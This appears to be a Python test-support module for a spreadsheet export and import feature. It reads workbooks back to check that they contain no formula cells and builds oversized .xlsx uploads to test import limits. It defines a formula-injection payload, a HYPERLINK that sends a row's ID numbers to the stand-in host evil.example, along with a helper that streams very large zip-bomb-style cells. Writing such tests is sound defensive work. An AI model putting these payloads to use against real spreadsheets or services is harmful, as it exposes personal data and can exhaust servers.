"""Test support: reading a written workbook back cell by cell, as the tests of every
export do (the value and the type openpyxl stored; ``"f"`` would be a formula), and
building hostile uploads, as the tests of the import and ``bench/xlsx_bomb.py`` do."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from typing import IO

from openpyxl import load_workbook

# What a hostile user types into a free-text field that an export carries: a live link
# that sends the row's other cells (full ID numbers) to its author when clicked.
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&J3,"点击核对")'


@dataclass(frozen=True)
class CellSeen:
    sheet: str
    coordinate: str
    value: object
    data_type: str


def workbook_cells(content: bytes) -> list[CellSeen]:
    """Every non-empty cell of every sheet of the .xlsx ``content``."""
    book = load_workbook(io.BytesIO(content))
    return [
        CellSeen(sheet.title, cell.coordinate, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def formula_cells(content: bytes) -> list[CellSeen]:
    """The cells stored as formulas: an export must have none."""
    return [c for c in workbook_cells(content) if c.data_type == "f"]


def cells_with(content: bytes, text: str) -> list[CellSeen]:
    """The cells whose value contains ``text``."""
    return [c for c in workbook_cells(content) if isinstance(c.value, str) and text in c.value]


def cell_with(content: bytes, text: str) -> CellSeen:
    """The one cell whose value contains ``text`` (AssertionError unless exactly one)."""
    found = cells_with(content, text)
    assert len(found) == 1, found
    return found[0]


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def workbook_with_long_cell(
    headers: Sequence[str],
    *,
    length: int,
    fill: bytes = b"A",
    shared: bool = False,
    references: bool = True,
) -> bytes:
    """An .xlsx whose first row holds ``headers`` and whose second row holds one cell of
    ``length`` repetitions of ``fill`` (as XML: ``b"&#20013;"`` is one character), in the
    sheet as an inline string or in the shared strings. ``references=False`` leaves the
    cells without their ``r="A1"`` attribute, as some writers do. The cell is streamed
    into the zip, so even a 300 MB one is never held in memory here."""

    def ref(column: int, row: int) -> str:
        return f' r="{chr(65 + column)}{row}"' if references else ""

    head = "".join(
        f'<c{ref(i, 1)} t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(headers)
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_PKG}"><Relationship Id="rId1" Type="x"'
            ' Target="worksheets/sheet1.xml"/></Relationships>',
        )
        last = ref(len(headers) - 1, 2)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(f'<worksheet xmlns="{_MAIN}"><sheetData><row r="1">{head}</row>'.encode())
            if shared:
                part.write(f'<row r="2"><c{last} t="s"><v>0</v></c></row>'.encode())
            else:
                part.write(f'<row r="2"><c{last} t="inlineStr"><is><t>'.encode())
                _repeat(part, fill, length)
                part.write(b"</t></is></c></row>")
            part.write(b"</sheetData></worksheet>")
        if shared:
            with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
                part.write(f'<sst xmlns="{_MAIN}"><si><t>'.encode())
                _repeat(part, fill, length)
                part.write(b"</t></si></sst>")
    return out.getvalue()


def _repeat(part: IO[bytes], fill: bytes, count: int) -> None:
    per_block = max(1, (1 << 20) // len(fill))
    block = fill * per_block
    full, rest = divmod(count, per_block)
    for _ in range(full):
        part.write(block)
    part.write(fill * rest)
